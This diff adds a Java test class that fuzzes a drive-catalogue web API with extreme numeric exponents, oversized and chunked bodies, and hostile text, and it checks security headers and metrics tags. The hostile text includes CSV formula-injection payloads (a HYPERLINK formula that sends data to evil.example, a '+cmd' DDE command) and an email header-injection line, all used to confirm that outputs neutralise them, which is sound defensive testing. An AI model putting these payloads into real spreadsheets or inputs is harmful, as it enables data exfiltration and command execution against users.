@@ -1,0 +1,573 @@
+package dev.drivecat.web;
+
+import static dev.drivecat.testing.Admin.TOKEN;
+import static dev.drivecat.testing.Admin.admin;
+import static io.restassured.RestAssured.given;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.databind.node.ArrayNode;
+import com.fasterxml.jackson.databind.node.JsonNodeFactory;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import com.fasterxml.jackson.dataformat.csv.CsvMapper;
+import com.fasterxml.jackson.dataformat.csv.CsvParser;
+import dev.drivecat.common.Text;
+import dev.drivecat.web.ApiFuzzTest.Attempt;
+import dev.drivecat.web.ApiFuzzTest.Operation;
+import io.quarkus.test.junit.QuarkusTest;
+import io.quarkus.test.junit.TestProfile;
+import io.restassured.RestAssured;
+import io.restassured.response.Response;
+import java.io.ByteArrayInputStream;
+import java.io.IOException;
+import java.io.InputStream;
+import java.io.OutputStream;
+import java.math.BigDecimal;
+import java.net.Socket;
+import java.nio.charset.StandardCharsets;
+import java.sql.Connection;
+import java.sql.DriverManager;
+import java.sql.PreparedStatement;
+import java.sql.SQLException;
+import java.util.ArrayList;
+import java.util.Iterator;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Locale;
+import java.util.Map;
+import java.util.Set;
+import java.util.concurrent.atomic.AtomicInteger;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
+import java.util.stream.Stream;
+import javax.xml.parsers.DocumentBuilderFactory;
+import org.eclipse.microprofile.config.ConfigProvider;
+import org.junit.jupiter.api.DynamicTest;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.TestFactory;
+
+/**
+ * Each class of hostile input found in the 2026-12 attack on a local instance (issue 35), attacked
+ * generically, alongside {@link ApiFuzzTest} and in its profile (one start of the service for both):
+ * every operation and every member comes from the committed contract (openapi/openapi.yaml), so an
+ * operation added later is attacked without a change here.
+ * <ul>
+ * <li>numbers whose scale explodes: every parameter of every operation, and every number in every
+ * JSON body, with huge and tiny exponents (for pages, with Accept: text/html too);</li>
+ * <li>bodies past their limit: every operation, declared by Content-Length and never sent; every
+ * public POST, streamed in chunks;</li>
+ * <li>text from imports with formula starts, control characters and noncharacters, read back from
+ * the CSV export, the Atom feed, the SVG chart, the page and the JSON; and stored text the XML
+ * writers must not emit as it is;</li>
+ * <li>headers: security headers on every answer, Vary: Accept wherever the contract names more than
+ * one media type, Location only as a relative reference;</li>
+ * <li>metrics: uri tags are path templates, whatever paths are asked for.</li>
+ * </ul>
+ * Every answer is held to {@link ApiFuzzTest#checkAnswer}: no 5xx, under 1 MB for a request under
+ * 1 KB, and no request thread still working once it is answered.
+ */
+@QuarkusTest
+@TestProfile(ApiFuzzTest.Fuzzing.class)
+class HostileClassesTest {
+
+    /** The exponents every parameter and every JSON number gets (ApiFuzzTest draws from all of them at random). */
+    static final List<String> EXPONENTS = List.of("1e100000000", "-1e999999999", "1e-100000", "1E+2147483647");
+
+    private static final ObjectMapper JSON = new ObjectMapper();
+    private static final AtomicInteger UNIQUE = new AtomicInteger();
+
+    // ---- numbers
+
+    @TestFactory
+    Stream<DynamicTest> everyParameterOfEveryOperationTakesHugeAndTinyExponents() throws IOException {
+        List<DynamicTest> tests = new ArrayList<>();
+        for (Operation op : ApiFuzzTest.operations()) {
+            tests.add(DynamicTest.dynamicTest(op.key(), () -> {
+                for (Map<String, String> baseline : baselines(op)) {
+                    for (JsonNode parameter : op.parameters()) {
+                        for (String value : EXPONENTS) {
+                            Attempt attempt = attempt(op, baseline, parameter.path("name").asText(), value, "parameter");
+                            for (String accept : op.method().equals("get") ? new String[] {null, "text/html"} : new String[] {null}) {
+                                Response response = ApiFuzzTest.send(op, attempt, accept);
+                                String what = attempt.describe(op) + (accept == null ? "" : " as " + accept);
+                                ApiFuzzTest.checkAnswer(what, ApiFuzzTest.requestBytes(op, attempt), response);
+                                if (response.statusCode() == 400 && Problem.MEDIA_TYPE.equals(response.contentType())
+                                        && "query".equals(parameter.path("in").asText())) {
+                                    assertThat(response.jsonPath().getString("parameter")).as("the parameter the 400 to %s names", what)
+                                            .isIn(op.parameterNames());
+                                }
+                            }
+                        }
+                    }
+                }
+            }));
+        }
+        return tests.stream();
+    }
+
+    @TestFactory
+    Stream<DynamicTest> everyNumberInEveryJsonBodyTakesHugeAndTinyExponents() throws IOException {
+        JsonNode schemas = ApiFuzzTest.contract().path("components").path("schemas");
+        List<DynamicTest> tests = new ArrayList<>();
+        for (Operation op : ApiFuzzTest.operations()) {
+            JsonNode schema = op.spec().path("requestBody").path("content").path("application/json").path("schema");
+            if (schema.isMissingNode()) {
+                continue;
+            }
+            tests.add(DynamicTest.dynamicTest(op.key(), () -> {
+                JsonNode valid = JSON.readTree(op.key().equals("POST /admin/imports/specs") ? importDocument("numbers-" + UNIQUE.incrementAndGet())
+                        : ApiFuzzTest.validBody(op, "application/json"));
+                List<String> numbers = new ArrayList<>();
+                numericMembers(schemas, schema, valid, "", numbers);
+                for (String pointer : numbers) {
+                    for (String value : EXPONENTS) {
+                        JsonNode body = with(valid, pointer, JsonNodeFactory.instance.numberNode(new BigDecimal(value)));
+                        Attempt attempt = new Attempt("body", "exponent at " + pointer, Map.of(), Map.of(), "application/json",
+                                JSON.writeValueAsBytes(body), false);
+                        Response response = ApiFuzzTest.send(op, attempt);
+                        String what = attempt.describe(op);
+                        ApiFuzzTest.checkAnswer(what, ApiFuzzTest.requestBytes(op, attempt), response);
+                        if (response.statusCode() == 400) {
+                            assertThat(response.asString()).as("the 400 to %s points at the member", what).contains("\"" + pointer);
+                        }
+                    }
+                }
+                if (op.key().equals("POST /subscriptions") || op.key().equals("POST /admin/imports/specs")) {
+                    assertThat(numbers).as("numbers found in the body of %s", op.key()).isNotEmpty();
+                }
+            }));
+        }
+        return tests.stream();
+    }
+
+    // ---- bodies
+
+    /** Past every operation's limit (the imports', the largest, is 5 MiB) and below the transport's ceiling (6M). */
+    static final long PAST_EVERY_LIMIT = 5L * 1024 * 1024 + 1;
+
+    @TestFactory
+    Stream<DynamicTest> everyOperationRefusesABodyPastItsLimitBeforeReadingIt() throws IOException {
+        return ApiFuzzTest.operations().stream().map(op -> DynamicTest.dynamicTest(op.key(), () -> {
+            // the headers announce the body and not one byte of it is sent: the answer can only come before reading it
+            RawAnswer answer = raw(op, "Content-Length: " + PAST_EVERY_LIMIT + "\r\n", null);
+            assertThat(answer.status()).as("the answer to %s with a body of %d bytes announced: %s", op.key(), PAST_EVERY_LIMIT, answer.head())
+                    .isEqualTo(413);
+            assertThat(answer.head().toLowerCase(Locale.ROOT)).contains("content-type: application/problem+json").contains("connection: close");
+            long maxBytes = JSON.readTree(answer.body()).path("maxBytes").asLong();
+            assertThat(maxBytes).as("the limit the 413 names").isPositive().isLessThan(PAST_EVERY_LIMIT);
+        }));
+    }
+
+    @TestFactory
+    Stream<DynamicTest> everyPublicPostCutsAStreamedBodyAtItsLimit() throws IOException {
+        return ApiFuzzTest.operations().stream().filter(op -> !op.admin() && op.method().equals("post") && !op.bodyTypes().isEmpty())
+                .map(op -> DynamicTest.dynamicTest(op.key(), () -> {
+                    String type = op.bodyTypes().get(0);
+                    // a body that stays valid as far as it goes: an endless JSON string, an endless form value
+                    String start = type.contains("json") ? "{\"email\": \"" : "token=";
+                    RawAnswer answer = raw(op, "Transfer-Encoding: chunked\r\n", start);
+                    assertThat(answer.status()).as("the answer to %s streaming 1 MiB: %s", op.key(), answer.head()).isEqualTo(413);
+                    assertThat(answer.head().toLowerCase(Locale.ROOT)).contains("content-type: application/problem+json");
+                }));
+    }
+
+    // ---- text
+
+    /** What text from outside may hold that the writers must not pass on as it is. */
+    static final List<String> INJECTED = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")\r\nBcc: victim@evil.example\t@x",
+            "+cmd|' /C calc'!A0\u0001\u000b\ufffe\ufdd0", "@SUM(1+1)\u007f\u0085");
+
+    @TestFactory
+    Stream<DynamicTest> everyTextFieldThatReachesCsvXmlAndHtmlIsNeutralised() throws IOException {
+        JsonNode schemas = ApiFuzzTest.contract().path("components").path("schemas");
+        JsonNode base = JSON.readTree(importDocument("text-0"));
+        List<String> texts = new ArrayList<>();
+        textMembers(schemas, schemas.path("ImportDocument"), base, "", texts);
+        assertThat(texts).as("text members of an import").contains("/drives/0/model", "/listings/0/sellerName",
+                "/listings/0/observations/0/availability");
+        return texts.stream().map(pointer -> DynamicTest.dynamicTest(pointer, () -> {
+            for (String text : INJECTED) {
+                String key = "text-" + UNIQUE.incrementAndGet();
+                JsonNode doc = with(JSON.readTree(importDocument(key)), pointer, JsonNodeFactory.instance.textNode(text));
+                Response imported = admin().contentType("application/json").body(JSON.writeValueAsBytes(doc))
+                        .when().post("/admin/imports/specs").andReturn();
+                String what = "an import with " + Text.quote(text) + " at " + pointer;
+                ApiFuzzTest.checkAnswer(what, 0, imported);
+                if (imported.statusCode() != 200) {
+                    // refused (a control character, a noncharacter, a malformed token): said where
+                    assertThat(imported.statusCode()).as("the answer to %s: %s", what, imported.asString()).isEqualTo(400);
+                    assertThat(imported.asString()).as("the refusal of %s points at the member", what).contains(pointer);
+                    continue;
+                }
+                readBackClean(slug(key), what);
+            }
+        }));
+    }
+
+    /** Every output of a drive read back: nothing a spreadsheet runs, nothing XML forbids, no control characters, names one line. */
+    private static void readBackClean(String slug, String what) throws Exception {
+        Response csv = given().accept("text/csv").when().get("/drives/" + slug + "/prices").andReturn();
+        ApiFuzzTest.checkAnswer("the CSV after " + what, 0, csv);
+        if (csv.statusCode() == 200) {
+            try (var rows = new CsvMapper().readerFor(String[].class).with(CsvParser.Feature.WRAP_AS_ARRAY).<String[]>readValues(csv.asByteArray())) {
+                while (rows.hasNext()) {
+                    for (String cell : rows.next()) {
+                        assertThat(Text.csvCell(cell)).as("a CSV cell after %s", what).isEqualTo(cell);
+                        assertThat(Text.singleLine(cell)).as("a CSV cell after %s", what).isEqualTo(cell.strip());
+                    }
+                }
+            }
+        }
+        assertXml(given().accept("application/atom+xml").when().get("/price-changes?week=2026-W47&drive=" + slug).andReturn(),
+                "the Atom feed after " + what);
+        assertXml(given().when().get("/drives/" + slug + "/prices.svg").andReturn(), "the chart after " + what);
+        Response page = given().accept("text/html").when().get("/drives/" + slug).andReturn();
+        ApiFuzzTest.checkAnswer("the page after " + what, 0, page);
+        assertThat(Text.firstRemoved(page.asString())).as("the first control character or noncharacter in the page after %s", what).isEqualTo(-1);
+        Response json = given().accept("application/json").when().get("/drives/" + slug).andReturn();
+        ApiFuzzTest.checkAnswer("the drive after " + what, 0, json);
+        for (String name : List.of("vendor", "model")) {
+            String value = json.jsonPath().getString(name);
+            assertThat(Text.singleLine(value)).as("the drive's %s after %s", name, what).isEqualTo(value);
+        }
+    }
+
+    @Test
+    void theXmlWritersNeverEmitWhatXmlForbidsWhateverWasStored() throws Exception {
+        String key = "stored-" + UNIQUE.incrementAndGet();
+        admin().contentType("application/json").body(importDocument(key)).when().post("/admin/imports/specs").then().statusCode(200);
+        // as rows stored before text was normalised at ingestion may still read
+        sql("UPDATE drive SET model = ? WHERE slug = ?", "Dirty\u0001\u000b\ufffe\r\nBcc: victim@evil.example", slug(key));
+        sql("UPDATE listing SET seller_name = ? WHERE external_id = ?", "=HYPERLINK(\"x\")\u0000\u0008", externalId(key));
+        assertXml(given().accept("application/atom+xml").when().get("/price-changes?week=2026-W47&drive=" + slug(key)).andReturn(),
+                "the Atom feed of a drive stored with control characters");
+        assertXml(given().when().get("/drives/" + slug(key) + "/prices.svg").andReturn(), "the chart of a drive stored with control characters");
+    }
+
+    // ---- headers
+
+    @TestFactory
+    Stream<DynamicTest> everyAnswerCarriesTheSecurityHeadersAndNegotiatedOnesVaryOnAccept() throws IOException {
+        return ApiFuzzTest.operations().stream().filter(op -> op.method().equals("get")).map(op -> DynamicTest.dynamicTest(op.key(), () -> {
+            Map<String, String> baseline = baselines(op).get(0);
+            List<String> types = new ArrayList<>(op.responseTypes(200));
+            types.add("text/html");
+            for (String accept : types) {
+                Attempt attempt = attempt(op, baseline, null, null, "valid");
+                Response response = ApiFuzzTest.send(op, attempt, accept);
+                String what = op.key() + " as " + accept;
+                ApiFuzzTest.checkAnswer(what, 0, response);
+                assertThat(response.header("X-Content-Type-Options")).as("nosniff on %s", what).isEqualTo("nosniff");
+                assertThat(response.header("Referrer-Policy")).as("Referrer-Policy on %s", what).isEqualTo("no-referrer");
+                String policy = response.header("Content-Security-Policy");
+                assertThat(policy).as("the policy of %s", what).startsWith("default-src 'none'");
+                if (response.contentType() != null && response.contentType().startsWith("text/html")) {
+                    assertThat(policy).as("the policy of the page %s", what).contains("frame-ancestors 'none'").doesNotContain("script-src");
+                }
+                if (op.responseTypes(200).size() > 1) {
+                    assertThat(response.header("Vary")).as("Vary on %s, which answers %s", what, op.responseTypes(200)).contains("Accept");
+                }
+            }
+        }));
+    }
+
+    // ---- metrics
+
+    /** The uri tag values Micrometer uses for requests no template describes. */
+    static final Set<String> FIXED_URI_TAGS = Set.of("UNKNOWN", "NOT_FOUND", "REDIRECTION", "root");
+    private static final Pattern URI_TAG = Pattern.compile("^http_server_requests_seconds_count\\{[^}]*uri=\"([^\"]*)\"", Pattern.MULTILINE);
+
+    @Test
+    void metricsTagRequestsWithPathTemplatesOnlyWhateverPathsAreAsked() throws IOException {
+        for (int i = 0; i < 150; i++) {
+            given().when().get("/admin/made-up-" + i).then().statusCode(401);
+            given().when().get("/made-up-" + i).then().statusCode(404);
+        }
+        given().when().get("/offers").then().statusCode(200);
+        Set<String> templates = new java.util.HashSet<>(FIXED_URI_TAGS);
+        ApiFuzzTest.operations().forEach(op -> templates.add(op.path()));
+        String metrics = given().when().get("/q/metrics").then().statusCode(200).extract().asString();
+        List<String> tags = new ArrayList<>();
+        Matcher m = URI_TAG.matcher(metrics);
+        while (m.find()) {
+            tags.add(m.group(1));
+        }
+        assertThat(tags).as("uri tags after made-up paths").contains("/offers").allSatisfy(tag ->
+                assertThat(templates.contains(tag) || !tag.startsWith("/admin") && !tag.contains("made-up")).as(tag).isTrue());
+        assertThat(tags).as("uri tags").noneMatch(tag -> tag.contains("made-up"));
+    }
+
+    // ---- helpers
+
+    /**
+     * The values of the operation's path and required parameters to start from: the contract's
+     * examples, and for a required parameter with a closed set of values (role=slog|special), each
+     * of them, as the 400 for a value outside the set names them.
+     */
+    static List<Map<String, String>> baselines(Operation op) {
+        Map<String, String> examples = new LinkedHashMap<>();
+        for (JsonNode parameter : op.parameters()) {
+            if ("path".equals(parameter.path("in").asText()) || parameter.path("required").asBoolean()) {
+                examples.put(parameter.path("name").asText(), parameter.has("example") ? parameter.get("example").asText() : "1");
+            }
+        }
+        List<Map<String, String>> baselines = new ArrayList<>(List.of(examples));
+        for (JsonNode parameter : op.parameters()) {
+            String name = parameter.path("name").asText();
+            if (!parameter.path("required").asBoolean() || "path".equals(parameter.path("in").asText())) {
+                continue;
+            }
+            Response asked = ApiFuzzTest.send(op, attempt(op, examples, name, "not-one-of-them", "closed set"));
+            List<String> allowed = asked.statusCode() == 400 && Problem.MEDIA_TYPE.equals(asked.contentType())
+                    ? asked.jsonPath().getList("allowed", String.class) : null;
+            // a closed set the contract's example belongs to (role: slog, special), not some other list the 400 gives
+            if (allowed != null && allowed.contains(examples.get(name)) && name.equals(asked.jsonPath().getString("parameter"))) {
+                List<Map<String, String>> each = new ArrayList<>();
+                for (Map<String, String> b : baselines) {
+                    for (String value : allowed) {
+                        Map<String, String> variant = new LinkedHashMap<>(b);
+                        variant.put(name, value);
+                        each.add(variant);
+                    }
+                }
+                baselines = each;
+            }
+        }
+        return baselines;
+    }
+
+    /** A request of the operation from the baseline with one parameter set (none when {@code name} is null) and a valid body. */
+    static Attempt attempt(Operation op, Map<String, String> baseline, String name, String value, String kind) {
+        Map<String, String> query = new LinkedHashMap<>();
+        Map<String, String> path = new LinkedHashMap<>();
+        for (JsonNode parameter : op.parameters()) {
+            String n = parameter.path("name").asText();
+            String v = n.equals(name) ? value : baseline.get(n);
+            if (v != null) {
+                ("path".equals(parameter.path("in").asText()) ? path : query).put(n, v);
+            }
+        }
+        String type = op.bodyTypes().isEmpty() ? null : op.bodyTypes().get(0);
+        byte[] body = type == null ? null : ApiFuzzTest.validBody(op, type).getBytes(StandardCharsets.UTF_8);
+        return new Attempt(name == null ? "nothing" : name, kind, query, path, type, body, false);
+    }
+
+    /** The JSON pointers of the numbers in a body of this schema: its numeric members, given or not. */
+    static void numericMembers(JsonNode schemas, JsonNode schema, JsonNode value, String pointer, List<String> found) {
+        JsonNode s = resolve(schemas, schema);
+        if (value.isObject()) {
+            for (Iterator<Map.Entry<String, JsonNode>> it = s.path("properties").fields(); it.hasNext(); ) {
+                Map.Entry<String, JsonNode> property = it.next();
+                JsonNode ps = resolve(schemas, property.getValue());
+                String at = pointer + "/" + property.getKey();
+                if (isNumeric(schemas, ps)) {
+                    found.add(at);
+                } else if (value.has(property.getKey())) {
+                    numericMembers(schemas, ps, value.get(property.getKey()), at, found);
+                }
+            }
+            JsonNode additional = s.path("additionalProperties");
+            if (additional.isObject()) {
+                value.fields().forEachRemaining(e -> numericMembers(schemas, additional, e.getValue(), pointer + "/" + e.getKey(), found));
+            }
+        } else if (value.isArray()) {
+            for (int i = 0; i < value.size(); i++) {
+                numericMembers(schemas, s.path("items"), value.get(i), pointer + "/" + i, found);
+            }
+        }
+    }
+
+    /** The JSON pointers of the text members of a body of this schema that the body gives. */
+    static void textMembers(JsonNode schemas, JsonNode schema, JsonNode value, String pointer, List<String> found) {
+        JsonNode s = resolve(schemas, schema);
+        if (value.isTextual() && (types(s).contains("string") || isNumeric(schemas, s))) {
+            found.add(pointer);
+        } else if (value.isObject()) {
+            for (Iterator<Map.Entry<String, JsonNode>> it = value.fields(); it.hasNext(); ) {
+                Map.Entry<String, JsonNode> member = it.next();
+                JsonNode ps = s.path("properties").path(member.getKey());
+                if (ps.isMissingNode()) {
+                    ps = s.path("additionalProperties");
+                }
+                textMembers(schemas, ps, member.getValue(), pointer + "/" + member.getKey(), found);
+            }
+        } else if (value.isArray()) {
+            for (int i = 0; i < value.size(); i++) {
+                textMembers(schemas, s.path("items"), value.get(i), pointer + "/" + i, found);
+            }
+        }
+    }
+
+    private static JsonNode resolve(JsonNode schemas, JsonNode schema) {
+        JsonNode s = schema;
+        while (s.has("$ref")) {
+            s = schemas.path(s.get("$ref").asText().replace("#/components/schemas/", ""));
+        }
+        return s;
+    }
+
+    private static boolean isNumeric(JsonNode schemas, JsonNode schema) {
+        JsonNode s = resolve(schemas, schema);
+        if (types(s).contains("number") || types(s).contains("integer")) {
+            return true;
+        }
+        for (String combined : List.of("anyOf", "oneOf")) {
+            for (JsonNode member : s.path(combined)) {
+                if (isNumeric(schemas, member)) {
+                    return true;
+                }
+            }
+        }
+        return false;
+    }
+
+    private static List<String> types(JsonNode schema) {
+        JsonNode type = schema.path("type");
+        List<String> types = new ArrayList<>();
+        if (type.isTextual()) {
+            types.add(type.asText());
+        }
+        type.forEach(t -> types.add(t.asText()));
+        return types;
+    }
+
+    /** A copy of the document with the member at the pointer set (added when absent). */
+    static JsonNode with(JsonNode document, String pointer, JsonNode value) {
+        JsonNode copy = document.deepCopy();
+        int slash = pointer.lastIndexOf('/');
+        JsonNode parent = copy.at(pointer.substring(0, slash));
+        String last = pointer.substring(slash + 1);
+        if (parent instanceof ObjectNode object) {
+            object.set(last, value);
+        } else if (parent instanceof ArrayNode array) {
+            array.set(Integer.parseInt(last), value);
+        }
+        return copy;
+    }
+
+    static String slug(String key) {
+        return "hostile-" + key + "-100gb";
+    }
+
+    static String externalId(String key) {
+        return "B0H" + key.replaceAll("[^A-Za-z0-9]", "").toUpperCase(Locale.ROOT);
+    }
+
+    /** An import document of one drive with a spec value, one listing and a price drop in 2026-W47, every text member given. */
+    static String importDocument(String key) {
+        return """
+                {"format": "drivecat-import/1",
+                 "sources": {"s": {"url": "https://example.org/hostile-report", "title": "A report", "kind": "REVIEW", "retrievedAt": "2026-11-20"}},
+                 "drives": [{"slug": "%1$s", "vendor": "Hostile", "model": "Text %2$s", "capacityGb": 100, "interface": "nvme",
+                             "formFactor": "u2", "pcieGen": 3, "pcieLanes": 4, "partNumbers": ["HT%3$s"],
+                             "specs": [{"field": "dwpd", "value": 3, "unit": null, "appliesTo": "the 100 GB model",
+                                        "wording": "3 drive writes per day", "source": "s"}]}],
+                 "listings": [{"marketplace": "amazon-us", "externalId": "%3$s", "drive": "%1$s", "sellerName": "A seller",
+                               "sellerType": "THIRD_PARTY", "condition": "NEW",
+                               "observations": [
+                                 {"observedAt": "2026-11-17T00:00:00Z", "price": 500.00, "priceHigh": 520.00, "currency": "USD", "shipping": 5.00,
+                                  "memberPrice": 490.00, "inStock": true, "availability": "In stock", "wording": "$500", "source": "s"},
+                                 {"observedAt": "2026-11-19T00:00:00Z", "price": 400.00, "currency": "USD", "inStock": true,
+                                  "availability": "In stock", "wording": "$400", "source": "s"}]}]}
+                """.formatted(slug(key), key, externalId(key));
+    }
+
+    private static void assertXml(Response response, String what) throws Exception {
+        ApiFuzzTest.checkAnswer(what, 0, response);
+        if (response.statusCode() != 200) {
+            return;
+        }
+        DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
+        factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
+        factory.newDocumentBuilder().parse(new ByteArrayInputStream(response.asByteArray())); // throws on what XML 1.0 forbids
+        assertThat(Text.firstNotXml(response.asString())).as("the first character XML forbids in %s", what).isEqualTo(-1);
+    }
+
+    private static void sql(String statement, String value, String key) throws SQLException {
+        String jdbc = ConfigProvider.getConfig().getValue("quarkus.datasource.jdbc.url", String.class);
+        try (Connection c = DriverManager.getConnection(jdbc, "postgres", ""); PreparedStatement s = c.prepareStatement(statement)) {
+            // NUL cannot be stored in PostgreSQL text at all: the rest of the value is what a page could leave
+            s.setString(1, value.replace("\u0000", ""));
+            s.setString(2, key);
+            assertThat(s.executeUpdate()).as(statement).isEqualTo(1);
+        }
+    }
+
+    /** A status line, headers and body, read off a socket. */
+    record RawAnswer(int status, String head, byte[] body) {
+    }
+
+    /**
+     * Sends the operation's request by hand, with {@code framing} (a Content-Length or
+     * Transfer-Encoding header); with {@code streamed} text, streams it and then 1 MiB of one
+     * letter in chunks (stopping as soon as an answer comes), else sends no body at all.
+     */
+    private static RawAnswer raw(Operation op, String framing, String streamed) throws IOException {
+        Attempt attempt = attempt(op, baselines(op).get(0), null, null, "body past its limit");
+        StringBuilder target = new StringBuilder(op.path());
+        for (Map.Entry<String, String> p : attempt.path().entrySet()) {
+            target.replace(0, target.length(), target.toString().replace("{" + p.getKey() + "}", ApiFuzzTest.percentEncoded(p.getValue())));
+        }
+        List<String> pairs = new ArrayList<>();
+        attempt.query().forEach((n, v) -> pairs.add(ApiFuzzTest.percentEncoded(n) + "=" + ApiFuzzTest.percentEncoded(v)));
+        if (!pairs.isEmpty()) {
+            target.append('?').append(String.join("&", pairs));
+        }
+        String type = op.bodyTypes().isEmpty() ? "application/octet-stream" : op.bodyTypes().get(0);
+        String head = op.method().toUpperCase(Locale.ROOT) + " " + target + " HTTP/1.1\r\nHost: localhost\r\nContent-Type: " + type + "\r\n"
+                + (op.admin() ? "Authorization: Bearer " + TOKEN + "\r\n" : "") + framing + "\r\n";
+        try (Socket socket = new Socket("localhost", RestAssured.port)) {
+            socket.setSoTimeout(ApiFuzzTest.ANSWER_TIMEOUT_MILLIS);
+            OutputStream out = socket.getOutputStream();
+            InputStream in = socket.getInputStream();
+            out.write(head.getBytes(StandardCharsets.US_ASCII));
+            out.flush();
+            if (streamed != null) {
+                chunk(out, streamed.getBytes(StandardCharsets.UTF_8));
+                byte[] letters = "a".repeat(8192).getBytes(StandardCharsets.US_ASCII);
+                try {
+                    for (int sent = 0; sent < 1024 * 1024 && in.available() == 0; sent += letters.length) {
+                        chunk(out, letters);
+                    }
+                    out.write("0\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
+                    out.flush();
+                } catch (IOException closedByTheServer) {
+                    // the server answered and closed while the body was still coming: what is read below says how
+                }
+            }
+            return read(in);
+        }
+    }
+
+    private static void chunk(OutputStream out, byte[] data) throws IOException {
+        out.write((Integer.toHexString(data.length) + "\r\n").getBytes(StandardCharsets.US_ASCII));
+        out.write(data);
+        out.write("\r\n".getBytes(StandardCharsets.US_ASCII));
+        out.flush();
+    }
+
+    private static RawAnswer read(InputStream in) throws IOException {
+        java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
+        int headEnd = -1;
+        long length = -1;
+        byte[] buffer = new byte[8192];
+        int n;
+        while ((n = in.read(buffer)) != -1) {
+            bytes.write(buffer, 0, n);
+            String so = bytes.toString(StandardCharsets.ISO_8859_1);
+            if (headEnd < 0 && (headEnd = so.indexOf("\r\n\r\n")) >= 0) {
+                Matcher m = Pattern.compile("(?im)^content-length:\\s*(\\d+)").matcher(so.substring(0, headEnd));
+                length = m.find() ? Long.parseLong(m.group(1)) : -1;
+            }
+            if (headEnd >= 0 && length >= 0 && bytes.size() >= headEnd + 4 + length) {
+                break;
+            }
+        }
+        String all = bytes.toString(StandardCharsets.ISO_8859_1);
+        assertThat(headEnd).as("an HTTP answer: %s", Text.quote(all)).isPositive();
+        String head = all.substring(0, headEnd);
+        byte[] body = java.util.Arrays.copyOfRange(bytes.toByteArray(), headEnd + 4, bytes.size());
+        return new RawAnswer(Integer.parseInt(head.split(" ")[1]), head, body);
+    }
+}
